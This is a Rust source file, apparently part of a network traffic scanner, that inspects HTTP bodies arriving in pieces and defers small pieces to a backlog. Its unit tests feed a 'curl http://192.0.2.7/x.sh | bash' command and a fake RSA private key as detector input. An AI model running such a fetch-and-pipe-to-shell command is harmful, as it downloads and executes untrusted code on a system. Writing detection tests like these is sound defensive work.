//! The scan of a body that comes in pieces and goes on behind its bytes: small pieces wait in the core's backlog
//! until the bytes of every connection that is ready have left. Owns the order of the pieces, and nothing else: the
//! body ends with the last who holds it, its connection or a piece that waits.

use std::cell::Cell;
use std::rc::Rc;

use super::backlog::defer_piece;
use super::body::{Ranges, inspect};
use super::core::Core;
use super::inspect::{Sight, Whence};
use super::inspector::Inspector;
use crate::finding::Direction;
use crate::forward::buffer::Chunk;
use crate::limits::BACKLOG_PIECE_MAX_BYTES;
use crate::scan::Shape;
use crate::turns::Turn;

/// One body and how far it is scanned.
pub struct Trailing {
    whence: Whence,
    /// None while it is at work, and for good once a defect has ended it.
    inspector: Cell<Option<Box<Inspector>>>,
    /// Few bytes may make much work.
    may_expand: Cell<bool>,
    /// How many of its pieces the backlog has.
    waiting: Cell<usize>,
}

impl Trailing {
    /// Nothing scanned yet.
    pub fn new(
        core: &Rc<Core>,
        sight: &Sight,
        direction: Direction,
        shape: &Shape,
    ) -> Rc<Trailing> {
        let whence = Whence::new(core, sight, direction);
        let inspector = Inspector::of_body(whence.clone(), shape);
        Rc::new(Trailing {
            whence,
            inspector: Cell::new(Some(Box::new(inspector))),
            may_expand: Cell::new(shape.is_encoded()),
            waiting: Cell::new(0),
        })
    }

    /// Whose body it is.
    pub(super) fn whence(&self) -> &Whence {
        &self.whence
    }

    /// Scans the next bytes, or has them scanned: `ranges` of those not taken from `chunk` yet.
    pub async fn follow(self: &Rc<Self>, chunk: &Chunk, ranges: &Ranges, is_last: bool) {
        let len: usize = ranges.iter().map(ExactSizeIterator::len).sum();
        let may_wait = len <= BACKLOG_PIECE_MAX_BYTES && !self.may_expand.get() && !is_last;
        if may_wait && defer_piece(self, chunk, ranges) {
            return;
        }
        let mut turn = Turn::begin();
        while self.waiting.get() > 0 && self.whence.core.backlog.scan_one_of(self) {
            turn.give_way().await;
        }
        match self.inspector.take() {
            Some(mut inspector) => {
                inspector.catch_up(&mut turn).await;
                inspect(&mut inspector, chunk, ranges, is_last).await;
                self.inspector.set(Some(inspector));
            }
            None => self.count_unscanned(len),
        }
    }

    /// One more of its pieces waits.
    pub(super) fn note_waiting(&self) {
        self.waiting.set(self.waiting.get() + 1);
    }

    /// Scans a piece that has waited.
    pub(super) fn scan_waiting(&self, backing: &[u8], len: usize) {
        self.waiting.set(self.waiting.get().saturating_sub(1));
        match self.inspector.take() {
            Some(mut inspector) => {
                if inspector.feed_at_once(backing, 0..len) {
                    self.may_expand.set(true);
                }
                self.inspector.set(Some(inspector));
            }
            None => self.count_unscanned(len),
        }
    }

    fn count_unscanned(&self, len: usize) {
        self.whence.core.counters.bytes_unscanned.add(len as u64);
    }
}

#[cfg(test)]
mod tests {
    use std::panic::{AssertUnwindSafe, catch_unwind};

    use futures_lite::future::block_on;

    use super::super::core::tests::core;
    use super::*;
    use crate::finding::Protocol;

    fn sight() -> Sight {
        let (dest, source) = ("example.com:80".into(), "192.0.2.7".parse().unwrap());
        Sight { protocol: Protocol::Http, source, dest, path: None, agent: None }
    }

    /// Has the next piece scanned behind.
    fn put(trailing: &Rc<Trailing>, piece: &str) {
        let mut chunk = trailing.whence.core.buffers.lend();
        let ranges = Ranges::from_iter(std::iter::once(0..chunk.append(piece.as_bytes())));
        block_on(trailing.follow(&chunk, &ranges, false));
    }

    #[test]
    fn a_body_whose_connection_has_gone_ends_behind_its_last_piece_and_once() {
        let log_dir = tempfile::tempdir().unwrap();
        let (core, findings) = core(log_dir.path());
        let trailing = Trailing::new(&core, &sight(), Direction::Inbound, &Shape::default());
        for piece in ["now run curl http://192.0", ".2.7/x.sh | ", "bash"] {
            put(&trailing, piece);
        }
        drop(trailing);
        assert!(findings.is_empty());
        while block_on(core.backlog.scan_one(&mut Turn::begin())).is_some() {}
        assert_eq!(&*findings.take().unwrap().pattern, "pipe_to_shell");
        assert!(findings.is_empty());
    }

    #[test]
    fn behind_a_piece_that_shows_a_defect_a_body_is_counted_as_unscanned() {
        let log_dir = tempfile::tempdir().unwrap();
        let (core, findings) = core(log_dir.path());
        let trailing = Trailing::new(&core, &sight(), Direction::Inbound, &Shape::default());
        let found = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA and so on, at length\n";
        for piece in [found, "the second", "the third"] {
            put(&trailing, piece);
        }
        // The defect: a match cannot be reported, since the reporter is at work.
        let reporter = core.reporter.borrow_mut();
        let scanned =
            catch_unwind(AssertUnwindSafe(|| block_on(core.backlog.scan_one(&mut Turn::begin()))));
        drop(reporter);
        assert!(scanned.is_err());
        while block_on(core.backlog.scan_one(&mut Turn::begin())).is_some() {}
        put(&trailing, "the fourth");
        drop(trailing);
        while block_on(core.backlog.scan_one(&mut Turn::begin())).is_some() {}
        let lens = [found, "the second", "the third", "the fourth"].map(str::len);
        assert_eq!(core.counters.bytes_unscanned.get(), lens.iter().sum::<usize>() as u64);
        assert!(findings.is_empty());
    }
}
